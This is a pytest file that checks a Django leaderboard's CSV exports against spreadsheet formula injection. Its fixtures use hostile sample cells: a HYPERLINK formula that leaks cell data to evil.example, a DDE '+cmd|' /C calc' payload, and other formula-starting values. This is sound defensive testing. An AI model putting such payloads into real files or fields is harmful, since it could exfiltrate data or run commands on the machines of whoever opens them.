"""The leaderboard's CSV (API and export_leaderboard) never hands a spreadsheet a formula."""

import csv
from io import StringIO

import pytest
from django.core.cache import cache
from django.core.management import call_command

from battles.models import Winner
from leaderboard import services
from providers.models import ArenaModel

from ..conftest import make_model
from .test_recompute import vote

pytestmark = pytest.mark.django_db

HOSTILE_PROVIDER = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def hostile_board(provider_a, provider_b):
    provider_a.name = HOSTILE_PROVIDER
    provider_a.save()
    first = make_model(provider_a, ArenaModel.Status.LISTED, name="@SUM(1+1)", licence="+cmd|' /C calc'!A0")
    second = make_model(provider_b, ArenaModel.Status.LISTED, name="plain", licence="-2+3")
    third = make_model(provider_b, ArenaModel.Status.LISTED, name="\tsneaky", licence="\r=1+1")
    vote(first, second, Winner.MODEL_A, n=20)
    vote(second, third, Winner.MODEL_A, n=20)
    vote(first, third, Winner.MODEL_B, n=5)
    services.recompute(bootstrap_rounds=10, seed=1)
    cache.clear()


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(StringIO(text)))


def assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                float(value)  # only a plain negative number may start with "-"


def test_the_api_csv_neutralises_cells_that_a_spreadsheet_would_run(hostile_board, client):
    response = client.get("/api/v1/leaderboard/?format=csv")
    assert response.status_code == 200
    rows = cells(response.content.decode())
    assert_no_formula(rows)
    by_model = {row["model"]: row for row in rows}
    assert by_model["'@SUM(1+1)"]["provider"] == "'" + HOSTILE_PROVIDER
    assert by_model["'@SUM(1+1)"]["licence"] == "'+cmd|' /C calc'!A0"
    assert by_model["plain"]["licence"] == "'-2+3"
    assert by_model["'\tsneaky"]["licence"] == "'\r=1+1"
    assert by_model["plain"]["rating"].replace(".", "").isdigit(), "numbers stay numbers"


def test_the_api_csv_error_line_is_neutralised_too(hostile_board, client):
    response = client.get("/api/v1/leaderboard/", {"format": "csv", "category": "=1+1"})
    assert response.status_code == 400
    assert_no_formula(cells(response.content.decode()))


def test_export_leaderboard_csv_neutralises_the_same_cells(hostile_board):
    out = StringIO()
    call_command("export_leaderboard", "--format", "csv", stdout=out)
    rows = cells(out.getvalue())
    assert_no_formula(rows)
    assert {row["provider"] for row in rows} >= {"'" + HOSTILE_PROVIDER}
